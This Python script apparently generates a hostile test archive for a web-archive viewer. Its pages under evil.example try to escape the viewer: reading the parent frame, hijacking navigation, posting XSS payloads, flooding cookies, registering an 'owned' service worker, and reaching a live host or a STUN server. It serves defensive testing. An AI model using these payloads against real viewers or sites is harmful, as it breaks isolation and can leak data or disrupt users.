#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""hostile_archive.py FLONG FOLDER LIVE STUN - a collection made to attack whoever looks at it

Pages of https://evil.example/, one an attack. Each page's script puts what it got into the data-got attribute of
its root element (a JSON object, "no" for what was refused) and then sets data-done. LIVE is host:port of what stands
for the live web, STUN that of a UDP socket. Prints the pages as a JSON object, so that a test can show them without
flong too and see that the attacks are real.
"""
import json
import sys

from made_archive import MadeArchive

SITE = 'https://evil.example/'

# What every attack begins with: `attempt` notes what came of one; a promise may take a while.
START = r"""<!doctype html><title>%(name)s</title><h1>%(name)s</h1><script>
const got = {}, LIVE = '%(live)s', UI = location.ancestorOrigins?.[0] ?? location.origin, STUN = '%(stun)s';
const late = (ms) => new Promise((done) => setTimeout(() => done('no'), ms));
async function attempt(what, action, ms = 1500) {
  try { const value = await Promise.race([action(), late(ms)]); got[what] = String(value).slice(0, 200); }
  catch (error) { got[what] = 'no'; }
}
function loaded(element, parent = document.body ?? document.documentElement) {
  return new Promise((done) => {
    element.onload = () => done('loaded'); element.onerror = () => done('no'); parent.append(element); });
}
function make(tag, attributes) { return Object.assign(document.createElement(tag), attributes); }
/* A window whose functions nobody has replaced. */
function fresh() { const frame = make('iframe', {}); document.documentElement.append(frame); return frame.contentWindow; }
async function main() {
%(script)s
}
main().finally(() => {
  document.documentElement.dataset.got = JSON.stringify(got); document.documentElement.dataset.done = 'yes'; });
</script>"""

ATTACKS = {
    'parent': r"""
  await attempt('document of the parent', () => parent.document.title);
  await attempt('address of the parent', () => parent.location.href);
  await attempt('storage of the parent', () => parent.localStorage.length);
  await attempt('document of the top', () => top.document.body.innerHTML);
  await attempt('the frame element', () => frameElement.ownerDocument.title);
  await attempt('the opener', () => opener.document.title);
  await attempt('function of the parent', () => parent.eval('1'));""",
    'navigate': r"""
  await attempt('top', () => { top.location.href = `http://${LIVE}/top`; return 'set'; });
  await attempt('parent', () => { parent.location.replace(`http://${LIVE}/parent`); return 'set'; });
  await attempt('library', () => { parent.location = UI + '/hostile/urls'; return 'set'; });
  const link = make('a', { href: `http://${LIVE}/link`, target: '_top' }); document.body.append(link); link.click();
  fresh().eval(`top.location = 'http://${LIVE}/fresh'`);
  await late(500);""",
    'library': r"""
  await attempt('fetch', () => fetch(UI + '/').then((r) => r.ok ? r.text() : 'no'));
  await attempt('fetch without cors', () => fetch(UI + '/', { mode: 'no-cors' }).then((r) => r.ok || r.type === 'opaque' ? 'read' : 'no'));
  await attempt('fetch of a frame', () => fresh().fetch(UI + '/', { mode: 'no-cors' }).then((r) => r.ok || r.type === 'opaque' ? 'read' : 'no'));
  await attempt('picture', () => loaded(make('img', { src: UI + '/-/icon.svg' })));
  await attempt('script', () => loaded(make('script', { src: UI + '/-/frame.js' })));
  await attempt('request', () => new Promise((done, no) => { const r = new XMLHttpRequest(); r.open('GET', UI + '/');
    r.onload = () => done(r.status === 200 ? r.responseText : 'no'); r.onerror = no; r.send(); }));
  await attempt('page', async () => { const frame = make('iframe', { src: UI + '/' }); document.body.append(frame);
    await late(700); return frame.contentDocument ? 'no' : (frame.contentWindow.length >= 0 && 'no'); });
  await attempt('cdx', () => fetch(UI + '/hostile/cdx?url=evil.example').then((r) => r.ok ? r.text() : 'no'));
  await attempt('socket', () => new Promise((done, no) => { const s = new WebSocket(UI.replace('http', 'ws'));
    s.onopen = () => done('open'); s.onerror = no; }));""",
    'messages': r"""
  const bad = '"><img src=x onerror="window.hacked=1"><script>window.hacked=1<\/script>';
  for (const flong of ['page', 'missing', 'other', bad]) {
    for (const url of [bad, 'javascript:window.hacked=1', { toString() { return bad; } }.toString(), 1e9, null]) {
      parent.postMessage({ flong, url, title: bad }, '*'); } }
  parent.postMessage(bad, '*'); parent.postMessage(null, '*'); parent.postMessage([bad], '*');
  for (let i = 0; i < 5000; i++) parent.postMessage({ flong: 'missing', url: 'x'.repeat(3000) + i }, '*');
  await late(500);""",
    'cookies': r"""
  document.cookie = 'stolen=1; path=/'; cookieStore?.set?.('stored', '1')?.catch?.(() => 0);
  await attempt('its own', () => document.cookie.includes('stolen=1') ? 'kept here' : 'lost');
  localStorage.setItem('mark', '1'); sessionStorage.setItem('mark', '1');
  await late(200);""",
    'cookie-bomb': r"""
  const pristine = fresh(); const write = Object.getOwnPropertyDescriptor(pristine.Document.prototype, 'cookie').set;
  for (let i = 0; i < 200; i++) write.call(document, `bomb${i}=${'x'.repeat(4000)}; path=/`);""",
    'worker': r"""
  const own = location.pathname.replace(/[a-z]*_\/.*/, 'js_/https://evil.example/sw.js');
  await attempt('register', () => navigator.serviceWorker.register(own).then(() => 'registered'));
  await attempt('register of a frame', () => fresh().navigator.serviceWorker.register(own).then(() => 'registered'));
  await attempt('register a page', () => fresh().navigator.serviceWorker.register('/-/page.js').then(() => 'registered'));
  await attempt('register by its prototype', () => fresh().ServiceWorkerContainer.prototype.register
    .call(navigator.serviceWorker, own, { scope: '/' }).then(() => 'registered'));""",
    'live-loads': r"""
  const at = (path) => `http://${LIVE}/${path}`; const pristine = fresh();
  await attempt('fetch', () => pristine.fetch(at('fetch'), { mode: 'no-cors' }).then((r) => r.ok || r.type === 'opaque' ? 'read' : 'no'));
  await attempt('request', () => new Promise((done, no) => { const r = new pristine.XMLHttpRequest(); r.open('POST', at('xhr'));
    r.onload = () => done(r.status === 200 ? 'loaded' : 'no'); r.onerror = no; r.send('x'); }));
  await attempt('beacon', () => pristine.Navigator.prototype.sendBeacon.call(navigator, at('beacon'), 'x') ? 'no' : 'no');
  await attempt('socket', () => new Promise((done, no) => { const s = new pristine.WebSocket(`ws://${LIVE}/ws`);
    s.onopen = () => done('open'); s.onerror = no; }));
  await attempt('events', () => new Promise((done, no) => { const s = new pristine.EventSource(at('events'));
    s.onopen = () => done('open'); s.onerror = no; }));
  document.body.insertAdjacentHTML('beforeend', ['<img src="', '<img srcset="', '<video autoplay src="', '<audio src="',
    '<embed src="', '<object data="', '<iframe src="', '<link rel=stylesheet href="', '<link rel=icon href="',
    '<link rel=manifest href="', '<p style="background:url(', '<svg><image href="', '<input type=image src="'].map((tag, i) =>
      `${tag}${at('html' + i)}${tag.endsWith('(') ? ')">' : '">'}`).join(''));
  const style = pristine.document.createElement('style');
  style.textContent = `@import "${at('import.css')}"; @font-face{font-family:f;src:url(${at('font')})} h1{font-family:f}`;
  document.head.append(style);
  const worker = new Worker(URL.createObjectURL(new Blob([`fetch('${at('from-worker')}', {mode:'no-cors'}).catch(() => 0);
    try { importScripts('${at('imported')}') } catch (e) {}`])));
  await attempt('module', () => import(at('module.js')));
  await late(600);""",
    'live-hints': r"""
  const at = (path) => `http://${LIVE}/${path}`;
  for (const rel of ['prefetch', 'prerender', 'preload', 'modulepreload', 'preconnect', 'dns-prefetch', 'next']) {
    document.head.append(make('link', { rel, href: at(rel), as: 'image' }));
    const set = document.createElement('link'); set.setAttribute('href', at('set-' + rel)); document.head.append(set);
    set.setAttribute('rel', rel);
    document.body.insertAdjacentHTML('beforeend', `<link rel="${rel}" href="http://${rel}.hint.example/">`);
    const box = document.createElement('div'); box.innerHTML = `<link rel="${rel}" href="${at('inner-' + rel)}">`;
    document.body.append(box); }
  document.head.append(make('script', { type: 'speculationrules', textContent: JSON.stringify({
    prefetch: [{ source: 'list', urls: [at('speculated')] }], prerender: [{ source: 'list', urls: [at('prerendered')] }] }) }));
  document.body.append(make('a', { href: 'http://anchor.hint.example/', textContent: 'a', ping: at('ping') }));
  await late(800);""",
    'live-moves': r"""
  const at = (path) => `http://${LIVE}/${path}`;
  await attempt('window', () => { const w = fresh().open(at('open')); return w && w !== window ? 'opened' : 'no'; });
  const form = make('form', { method: 'post', target: 'inner' }); form.setAttribute('action', at('form'));
  document.body.append(make('iframe', { name: 'inner' }), form); fresh().HTMLFormElement.prototype.submit.call(form);
  const link = make('a', { target: '_blank' }); link.setAttribute('href', at('blank')); document.body.append(link);
  fresh().HTMLElement.prototype.click.call(link);
  await late(800);""",
    # A browser connects to the host of such a frame before it asks the policy, and no script can see it come.
    'live-frame': r"""
  const inner = make('iframe', {}); document.body.append(inner); inner.contentWindow.location = `http://${LIVE}/inner`;
  await late(500);""",
    'live-refresh': r"""
  document.head.append(make('meta', { httpEquiv: 'refresh', content: `0;url=http://${LIVE}/refresh` }));
  await late(300);""",
    'live-location': r"""
  setTimeout(() => { location.href = `http://${LIVE}/location`; }, 100);""",
    'webrtc': r"""
  const kinds = { own: () => window.RTCPeerConnection, old: () => window.webkitRTCPeerConnection,
    frame: () => fresh().RTCPeerConnection, indexed: () => { document.body.append(make('iframe', {}));
      return window[window.length - 1].RTCPeerConnection; },
    markup: () => { document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>');
      return window[window.length - 1].RTCPeerConnection; },
    inner: () => { const box = document.createElement('div'); document.body.append(box); box.innerHTML = '<iframe></iframe>';
      return window[window.length - 1].RTCPeerConnection; },
    written: () => { const frame = fresh(); frame.document.write('<p>x'); frame.document.close(); return frame.RTCPeerConnection; },
    nested: () => { const frame = fresh(); frame.document.body.append(frame.document.createElement('iframe'));
      return frame[0].RTCPeerConnection; } };
  for (const [name, kind] of Object.entries(kinds)) {
    await attempt(name, async () => { const Peer = kind(); const peer = new Peer({ iceServers: [{ urls: 'stun:' + STUN }] });
      peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); return 'connected'; }); }
  await late(500);""",
    # Of these documents the page has no hold before their scripts run.
    'webrtc-text': r"""
  const text = `<script>const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${STUN}' }] });
    peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));</` + 'script>';
  document.body.append(make('iframe', { srcdoc: text }));
  const named = document.createElement('iframe'); named.setAttribute('srcdoc', '<!doctype html>' + text); document.body.append(named);
  const quoted = text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  document.body.insertAdjacentHTML('beforeend', `<iframe srcdoc="${quoted}"></iframe>`);
  const parsed = new DOMParser().parseFromString(`<iframe srcdoc="${quoted}"></iframe>`, 'text/html').body.firstChild;
  document.body.append(document.adoptNode(parsed));
  await late(1500);""",
    'webrtc-picture': r"""
  document.body.append(make('iframe', { src: 'peer.svg' }), make('iframe', { src: location.href.replace(/mp_\/.*/, 'id_/' + 'https://evil.example/raw') }));
  await late(1500);""",
}
# A document with this makes a connection, unless a policy forbids its scripts.
PEER = ("const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:%s' }] }); peer.createDataChannel('x');"
        " peer.createOffer().then((offer) => peer.setLocalDescription(offer))")


def main():
    flong, folder, live, stun = sys.argv[1:]
    made = MadeArchive(folder, flong)
    pages = {name: START % {'name': name, 'script': script, 'live': live, 'stun': stun} for name, script in ATTACKS.items()}
    for name, page in pages.items():
        made.add(SITE + name, page)
    made.add(SITE + 'peer.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>%s</script></svg>' % (PEER % stun), 'image/svg+xml')
    made.add(SITE + 'raw', '<!doctype html><h1>raw</h1><script>%s</script>' % (PEER % stun))
    made.add(SITE + 'webrtc-static', '<!doctype html><h1>frames</h1><iframe src=peer.svg></iframe>'
             '<iframe srcdoc="<script>%s</script>"></iframe><script>setTimeout(() => {'
             'document.documentElement.dataset.done = "yes" }, 2000)</script>' % (PEER % stun))
    made.add(SITE + 'quiet', '<!doctype html><h1>quiet</h1>')
    made.add(SITE + 'sw.js', "self.addEventListener('fetch', (e) => e.respondWith(new Response('owned')))", 'text/javascript')
    made.add(SITE + 'static', '<!doctype html><h1>static</h1><meta http-equiv=refresh content="0;url=http://%s/refresh">'
             '<base href="http://%s/base/"><link rel=preconnect href="http://%s/"><link rel=dns-prefetch href="//dns.hint.example">'
             '<link rel=prefetch href=pre><img src=picture><form action=send><iframe srcdoc="<img src=http://%s/srcdoc>"></iframe>'
             '<script>document.documentElement.dataset.done="yes"</script>' % ((live,) * 4))
    made.add(SITE + 'headers', '<h1>headers</h1><script>document.documentElement.dataset.done="yes"</script>', fields=(
        b'Set-Cookie: kept=1; Path=/', b'Link: <http://%s/linked>; rel=preload; as=image' % live.encode(),
        b'Refresh: 0;url=http://%s/refreshed' % live.encode(), b'Clear-Site-Data: "*"', b'Service-Worker-Allowed: /',
        b'Content-Security-Policy: report-uri http://%s/report' % live.encode(), b'NEL: {}', b'Alt-Svc: h2=":1"',
        b'Access-Control-Allow-Origin: *', b'Strict-Transport-Security: max-age=1', b'Location: http://%s/' % live.encode()))
    made.write()
    json.dump(pages, sys.stdout)


if __name__ == '__main__':
    main()
